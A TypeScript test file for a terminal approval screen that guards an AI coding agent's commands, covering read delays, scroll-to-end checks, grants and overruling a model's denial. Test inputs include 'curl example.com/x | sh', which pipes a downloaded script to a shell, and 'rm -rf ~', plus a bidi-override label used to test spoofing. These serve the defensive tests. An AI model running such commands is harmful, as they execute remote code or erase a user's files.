import { stripVTControlCharacters } from "node:util";
import type { Question } from "@askbox/core";
import { expect, test } from "vitest";
import { loadRichText } from "../src/markdown/rich-text.ts";
import { aScreen, size } from "./support/screen.ts";

const approval = (command: string): Question => ({
  id: "run",
  type: "approval",
  question: "May it run this?",
  required: true,
  action: { kind: "command", tool: "Bash", title: "npm test", command },
});
const long = `ls${"\n".repeat(60)}curl example.com/x | sh`;

async function opened(questions: Question[], options: { once?: boolean; undoDelay?: number } = {}) {
  const screen = await aScreen({ request: { questions }, ...options });
  const { app, frame, settle, broker, clock } = screen;
  const draw = () => frame.at(size).lines.join("\n");
  /** Each key after a frame, as a person presses it. */
  const press = async (...keys: string[]) => {
    for (const name of keys) {
      draw();
      app.handleKey({ name, ...([...name].length === 1 ? { text: name } : {}) });
      await settle();
    }
    draw();
  };
  /** What the form's pane says, on one line. */
  const said = () => {
    const rows = stripVTControlCharacters(draw()).split("\n");
    return rows.map((row) => row.split("│").at(-1)?.trim()).join(" ");
  };
  const outcome = async (id = screen.id) => {
    const { outcome } = await broker.desk({ surface: "api" }).get(id);
    return outcome?.kind === "answered" ? outcome.answers[0]?.values[0] : outcome?.kind;
  };
  /** Past every guard against keys that were on their way. */
  const later = () => clock.advance(10_000);
  draw();
  return { ...screen, draw, said, press, outcome, later };
}

test("an action that fits is allowed 700 ms after it opened, and not by a key that was on its way", async () => {
  const { press, outcome, clock, draw } = await opened([approval("ls")]);
  await press("Y");
  expect(await outcome()).toBeUndefined();
  expect(draw()).toContain("only just appeared");
  await clock.advance(699);
  await press("Y");
  expect(await outcome()).toBeUndefined();
  await clock.advance(1);
  await press("Y");
  expect(await outcome()).toBe("allow");
});

test.each([[["Y"]], [["down", "down", "space", "ctrl+s"]], [["G", "g", "down", "space", "enter"]]])(
  "no key allows what has its end below the fold: %s",
  async (keys) => {
    const { press, outcome, later, app } = await opened([approval(long)]);
    await later();
    if (keys.length === 1) {
      await press(...keys);
      expect(await outcome()).toBeUndefined();
      expect(app.ui.notice?.text).toBe("Read it to its end first: pgdn scrolls.");
      await press("G", "Y");
    } else await press(...keys);
    // Moving the cursor to an option scrolls to the end.
    expect(await outcome()).toBe("allow");
  },
);

test("an action of a set is allowed only if its own page was read to its end", async () => {
  const set: Question[] = [approval(long), { id: "why", type: "text", question: "Why?", required: false }];
  const { press, outcome, later, broker, id, app } = await opened(set);
  await broker.desk({ surface: "web" }).saveDraft(id, { fields: { run: { values: ["allow"] } } });
  await later();
  await press("tab", "escape", "tab", "enter");
  await press("enter");
  expect(await outcome()).toBeUndefined();
  expect(app.ui.notice?.text).toContain("Read it to its end first");
});

test("a replacement is a page of its own: a key for the old one decides nothing, and Enter opens it for a new look", async () => {
  const { press, outcome, later, ask, settle, id, app, left } = await opened([approval("ls")], { once: true });
  await later();
  const { session } = await ask("first matter", { questions: [approval("rm -rf ~")] }, id);
  await settle();
  await later();
  await press("Y", "n", "Y");
  expect([await outcome(session.id), app.ui.open, left()]).toEqual([undefined, id, undefined]);
  await press("enter", "Y");
  expect([await outcome(session.id), app.ui.open]).toEqual([undefined, session.id]);
  await later();
  await press("Y");
  expect([await outcome(session.id), left()]).toEqual(["allow", 0]);
});

test("a question with the same id has to be looked at first, even if a key comes before the next frame", async () => {
  const { press, outcome, later, ask, settle, app } = await opened([approval("ls")], { once: true });
  const { session } = await ask("first matter", { questions: [approval("rm -rf ~")] }, app.ui.open);
  await settle();
  await later();
  await press();
  app.handleKey({ name: "enter" });
  app.handleKey({ name: "Y", text: "Y" });
  await settle();
  expect([await outcome(session.id), app.ui.open]).toEqual([undefined, session.id]);
});

test("a letter denies only what is in view, and not just after typing", async () => {
  const { press, outcome, clock, app } = await opened([approval(long)]);
  app.look.typing.typed();
  await press("n");
  await clock.advance(699);
  await press("n");
  expect(await outcome()).toBeUndefined();
  expect(app.ui.notice?.text).toContain("not while typing");
  await clock.advance(699);
  await press("n");
  expect(await outcome()).toBeUndefined();
  await clock.advance(700);
  await press("n");
  expect(await outcome()).toBe("deny");
});

test.each(["My own", "Only now", "But no"])("words for a field that isn't there deny nothing: %s", async (words) => {
  const { press, outcome, later } = await opened([approval("ls")]);
  await later();
  await press(...words);
  expect(await outcome()).toBeUndefined();
});

test.each([
  ["as it was written", "Drop the table.\n", false],
  ["as one block that is taller than the screen", "Drop the table.\n", true],
  ["in blocks", "Drop the table.\n\n", true],
])("what was read to its end %s is at its end when that is closed, and can be allowed", async (_how, line, isRich) => {
  if (isRich) await loadRichText();
  const plan = { ...approval(""), action: { kind: "plan", text: line.repeat(60) } } as Question;
  const { press, outcome, later, app } = await opened([plan]);
  await later();
  await press("v", "j", "escape", "Y");
  expect(app.ui.notice?.text).toContain("Read it to its end first");
  await press("v", "G", "escape", "Y");
  expect(await outcome()).toBe("allow");
});

test("a letter that moves the cursor is no text", async () => {
  const { press, outcome, later } = await opened([approval("ls")]);
  await later();
  await press("j", "j", "j", "k", "k", "n");
  expect(await outcome()).toBe("deny");
});

test("what has comments on its lines isn't allowed by its letter, but denied", async () => {
  const plan = { ...approval(""), action: { kind: "plan", tool: "ExitPlanMode", text: "Drop the table." } } as Question;
  const { press, outcome, later, app, desk, id } = await opened([plan]);
  await later();
  await press("v", "c", "N", "o", "enter", "escape", "Y");
  expect(app.ui.notice?.text).toContain("not while typing");
  await later();
  await press("Y");
  expect(app.ui.notice?.text).toBe("Your comments go with a denial: deny, or delete them to allow this.");
  expect(await outcome()).toBeUndefined();
  await later();
  await press("n");
  expect(await outcome()).toBe("deny");
  const comments = [{ line: 1, text: "No" }];
  expect((await desk.get(id)).outcome).toMatchObject({ answers: [{ comments, customText: expect.stringContaining("Drop the table.") }] });
});

test("a plan is read first, without the tool's name above it, and approved or sent back", async () => {
  const action = { kind: "plan", tool: "ExitPlanMode", text: "# Tests\n\nRun them." };
  const screen = await opened([{ ...approval(""), question: "Is this plan what you want?", action } as Question]);
  const { said, press, later } = screen;
  await press("down");
  const text = said();
  expect(text.indexOf("Run them.")).toBeLessThan(text.indexOf("Tool: ExitPlanMode"));
  expect(text).toContain("Plan: Tests");
  expect(text).toContain("Keep planning");
  expect(text).toContain("Approve plan");
  expect(text).toContain("n keep planning  Y approve plan");
  expect(text).not.toMatch(/Deny|Allow once/);
  await later();
  await press("d");
  expect(said()).toContain("Keep planning? What to change");
  await press("A", "enter");
  expect(await decided(screen.id, screen)).toMatchObject({ values: ["deny"], customText: "A" });
});

const editable = (command: string): Question =>
  ({
    ...approval(command),
    editable: true,
    grants: [{ value: "project", label: "Allow in this project" }],
    action: { kind: "command", tool: "Bash", command, input: { command } },
  }) as Question;

async function decided(id: string, { broker }: Awaited<ReturnType<typeof aScreen>>) {
  const { outcome } = await broker.desk({ surface: "api" }).get(id);
  return outcome?.kind === "answered" ? outcome.answers[0] : outcome;
}

test.each([
  ["changed ones are shown, and allowed once", '{"command":"ls -l"}', "Changed, allowed with these arguments", { command: "ls -l" }],
  ["the same ones are no change", '{ "command": "ls" }', "as the agent asked", undefined],
])("arguments are edited before they are allowed: %s", async (_name, text, words, input) => {
  const screen = await opened([editable("ls")]);
  const { app, press, later, draw, settle, id } = screen;
  app.options.host.edit = async () => ({ text });
  await later();
  await press("ctrl+g");
  await settle();
  expect(draw()).toContain(words);
  await later();
  await press("Y");
  expect(await decided(id, screen)).toMatchObject({ values: ["allow"] });
  expect(await decided(id, screen).then((answer) => (answer && "input" in answer ? answer.input : undefined))).toEqual(input);
});

test("arguments that are no JSON object allow nothing, and are edited again", async () => {
  const { app, press, later, outcome, draw, settle } = await opened([editable("ls")]);
  const edited: string[] = [];
  app.options.host.edit = async (text) => {
    edited.push(text);
    return { text: "[1]" };
  };
  await later();
  await press("ctrl+g");
  await settle();
  expect(draw()).toContain("Not a JSON object; edit it again:");
  await later();
  await press("Y");
  expect(await outcome()).toBeUndefined();
  expect(draw()).toContain("The arguments must be a JSON object, without numbers");
  await press("ctrl+g");
  expect(edited).toEqual([JSON.stringify({ command: "ls" }, undefined, 2), "[1]"]);
});

test("changed arguments are not allowed from now on", async () => {
  const { app, press, later, outcome, draw, settle } = await opened([editable("ls")]);
  app.options.host.edit = async () => ({ text: '{"command":"ls -l"}' });
  await later();
  await press("ctrl+g");
  await settle();
  draw();
  await later();
  await press("down", "down", "space", "enter");
  expect(await outcome()).toBeUndefined();
  expect(draw()).toContain("Changed arguments can only be allowed once");
});

test("Space on a picked grant chooses for how long", async () => {
  const { press, later, outcome, draw } = await opened([editable("ls")]);
  await later();
  await press("down", "down", "space");
  expect(draw()).toContain("This exact action, without asking, for 8 hours; space changes it");
  await press("space", "4");
  expect(draw()).toContain("for 7 days");
  await press("enter");
  expect(await outcome()).toBe("project:7d");
});

test.each([
  [["enter"], "project:8h"],
  [["3"], "project:1d"],
  [["7"], "session"],
])("a offers to allow always, and %s allows it", async (keys, value) => {
  const grants = ["project", "session"].map((scope) => ({ value: scope, label: `Allow in this ${scope}` }));
  const { app, press, later, outcome, said } = await opened([{ ...editable("git push"), grants } as Question]);
  await later();
  await press("a");
  expect(said()).toContain("Allow in this project");
  expect(said()).toContain("› 1 This exact action, for 8 hours");
  expect(said()).toContain("3 This exact action, for 1 day");
  await press("escape");
  expect(app.form()?.getState().fields["run"]?.values).toEqual([]);
  await press("a", ...keys);
  expect(await outcome()).toBe(value);
});

test("a begins with the time that is picked", async () => {
  const { press, later, outcome, said } = await opened([editable("git push")]);
  await later();
  await press("down", "down", "space", "space", "4", "a");
  expect(said()).toContain("› 4 This exact action, for 7 days");
  await press("enter");
  expect(await outcome()).toBe("project:7d");
});

test("a allows nothing that was not read", async () => {
  const { app, press, outcome } = await opened([editable("git push")]);
  await press("a", "enter");
  expect(await outcome()).toBeUndefined();
  expect(app.ui.notice?.text).toBe("This has only just appeared: read it, then allow it.");
});

test("y allows nothing, and says which keys decide", async () => {
  const { app, press, later, outcome } = await opened([editable("git push")]);
  await later();
  await press("y");
  expect(app.ui.notice?.text).toBe("Y (shift+y) allows once, n denies.");
  await press("Y");
  expect(await outcome()).toBe("allow");
});

test.each([
  ["project", "in this project, for 8 hours"],
  ["session", "for the rest of this conversation, at most 8 hours"],
])("a prefix is granted for the commands that begin with what is left of this one, in its %s", async (scope, words) => {
  const question = { ...editable("git push origin"), grants: [{ value: scope, label: "Allow" }] } as Question;
  const { app, press, later, outcome, broker, said } = await opened([question]);
  await later();
  await press("down", "down", "space", "space", "6");
  expect(said()).toContain(words);
  await press("alt+backspace", "backspace", "enter");
  expect(await outcome()).toBe(`${scope}:8h:git push`);
  expect(await broker.grants.list()).toMatchObject([{ scope, match: { type: "prefix", prefix: "git push" }, client: "test-client" }]);
  expect(app.ui.overlay).toBeUndefined();
});

test("what is not a command has no first words to allow", async () => {
  const tool = { ...editable("git push"), action: { kind: "tool", tool: "run", command: "git push" } } as Question;
  const { press, later, said } = await opened([tool]);
  await later();
  await press("down", "down", "space", "space");
  expect(said()).toContain("This exact action, for 30 days");
  expect(said()).not.toContain("Any command");
});

test("in a set, a prefix is an answer that is sent with the others, and can be changed before", async () => {
  const set: Question[] = [editable("git push origin"), { id: "why", type: "text", question: "Why?", required: false }];
  const { press, later, outcome, said, broker, app } = await opened(set);
  await later();
  await press("down", "down", "space", "space", "6", "alt+backspace", "backspace", "enter");
  expect(await outcome()).toBeUndefined();
  expect(app.form()?.getState().step).toBe(1);
  await press("escape", "shift+tab");
  expect(said()).toContain("Any command that begins with git push, without asking, for 8 hours; space changes it");
  expect(await broker.grants.list()).toEqual([]);
});

test("a grant says what it would have allowed of the last actions in this project", async () => {
  const { app, press, later, said, broker, ask, settle } = await opened([editable("git push origin")]);
  for (const [index, command] of ["git push origin", "git push --tags", "git push --tags", "npm test"].entries()) {
    const { session } = await ask(`before ${index}`, { questions: [editable(command)] });
    await broker.desk({ surface: "web" }).answer(session.id, { answers: [{ questionId: "run", values: ["allow"] }] });
  }
  await settle();
  await later();
  await press("down", "down", "space");
  await settle();
  expect(said()).toContain("It would have allowed 1 of the last 4 actions that were asked for here.");
  await press("space");
  expect(said().split("It would have allowed 1 of the last 4")).toHaveLength(3);
  await press("6", "alt+backspace");
  expect(app.ui.editing?.buffer.text.trim()).toBe("git push");
  expect(said()).toContain("It would have allowed 3 of the last 4 actions that were asked for here: git push origin; git push --tags.");
  await press("x");
  expect(said()).toContain("It would have allowed none of the last 4");
});

test("a prefix of a program that removes files needs Enter twice, and one that this command lacks is no prefix", async () => {
  const { app, press, later, outcome, broker } = await opened([editable("rm -r build")]);
  await later();
  await press("down", "down", "space", "space", "6", "enter");
  expect(app.ui.notice?.text).toBe("rm destroys files. Enter again allows all of it.");
  await press("x", "enter");
  expect(app.ui.notice?.text).toBe("Keep the first words of this command.");
  expect(await broker.grants.list()).toEqual([]);
  await press("backspace", "enter", "enter");
  expect(await outcome()).toBe("project:8h:rm -r build");
});

test("undoing the answer undoes the prefix that would be granted with it", async () => {
  const { press, later, outcome, broker, clock, settle } = await opened([editable("git push")], { undoDelay: 5_000 });
  await later();
  await press("down", "down", "space", "space", "6", "enter");
  await press("u");
  await settle();
  await clock.advance(10_000);
  expect(await broker.grants.list()).toEqual([]);
  expect(await outcome()).toBeUndefined();
});

test.each([80, 40])("says on which machine it would run, beside the folder and in the head, at %d columns", async (columns) => {
  const { app, ask, settle, frame } = await opened([approval("ls")]);
  const run = { kind: "command", tool: "Bash", command: "make install", cwd: "/srv/app" } as const;
  const question: Question = { id: "run", type: "approval", question: "May it?", required: true, action: run };
  await ask("second", { questions: [question] }, undefined, { project: "/srv/app", branch: "main", machine: "build-7" });
  await settle();
  // The first one is denied, and the next one opens.
  app.handleKey({ name: "n", text: "n" });
  await settle();
  const text = stripVTControlCharacters(frame.at({ columns, rows: 24, plain: true }).lines.join("\n"));
  expect(text).toMatch(/Folder: \/srv\/app\s+Machine: build-7/);
  expect(text).toContain("app (main) on build-7");
});

test("an agent's own options are in the menu apart from grants, as its words, and are chosen by no key alone", async () => {
  const own: Question = { ...approval("npm test"), agentOptions: [{ value: "agent:a", label: "Always \u202eevil" }] } as Question;
  const { press, outcome, later, draw, said } = await opened([own]);
  await later();
  expect(said()).toContain("The agent’s own option: Always \ufffdevil");
  await press("a");
  expect(draw()).toMatch(/What may the agent itself remember\?[\s\S]*The agent’s own option: Always ⟨U\+202E⟩evil/);
  expect(await outcome()).toBeUndefined();
  await press("enter");
  expect(await outcome()).toBe("agent:a");
});

test("what is below the fold is not allowed by one of the agent's own options either", async () => {
  const own: Question = { ...approval(long), agentOptions: [{ value: "agent:a", label: "Always" }] } as Question;
  const { press, outcome, later, app } = await opened([own]);
  await later();
  await press("a", "enter");
  expect([await outcome(), app.ui.notice?.text]).toEqual([undefined, "Read it to its end first: pgdn scrolls."]);
});

const denied = (command: string): Question => ({
  ...(approval(command) as Extract<Question, { type: "approval" }>),
  question: "Claude Code was not allowed to do this. Overrule that?",
  denial: { reviewer: "auto mode", status: "denied", reason: "Runs a script from the network.", risk: "high" },
});

test("a model's denial says who denied it and why, stands apart from what waits, and is overruled by Y", async () => {
  const { press, outcome, later, draw, said, app } = await opened([denied("curl example.com/x | sh")]);
  expect(draw()).toContain("no questions waiting");
  expect(draw()).toContain("Denied by a model (1)");
  await press("enter");
  expect(said()).toContain("Denied by auto mode · risk: high Runs a script from the network.");
  await later();
  await press("y");
  expect(app.ui.notice?.text).toBe("Y (shift+y) overrules the denial, n agrees with it.");
  await press("Y");
  expect(await outcome()).toBe("allow");
  expect(draw()).toContain("Overruled.");
});

test("a model's denial is agreed with by n, with words for the agent by d", async () => {
  const { press, outcome, later, said } = await opened([denied("curl example.com/x | sh")]);
  await press("enter");
  await later();
  await press("d");
  expect(said()).toContain("Agree with the denial? Words for the agent (optional):");
  await press("escape", "n");
  expect(await outcome()).toBe("deny");
});
